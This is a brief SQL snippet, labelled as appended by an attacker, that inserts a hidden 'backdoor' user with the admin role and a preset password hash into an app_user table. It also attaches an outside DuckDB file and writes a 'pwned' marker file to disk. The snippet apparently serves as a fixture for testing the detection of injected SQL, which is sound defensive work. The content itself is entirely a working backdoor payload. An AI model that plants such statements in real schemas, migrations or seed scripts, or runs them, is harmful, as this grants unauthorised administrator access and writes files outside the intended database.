
-- appended by an attacker
INSERT INTO app_user (user_name, role, password_hash, created_at) VALUES ('backdoor', 'admin', '$2b$04$backdoorsaltbackdoorsetBv0qt367k0yPZ0iFnFFOEDD4ePMP72', TIMESTAMP '2030-01-01 00:00:00');
ATTACH 'pwned_attached.duckdb' AS pwned;
COPY (SELECT 'pwned') TO 'pwned_marker.csv';
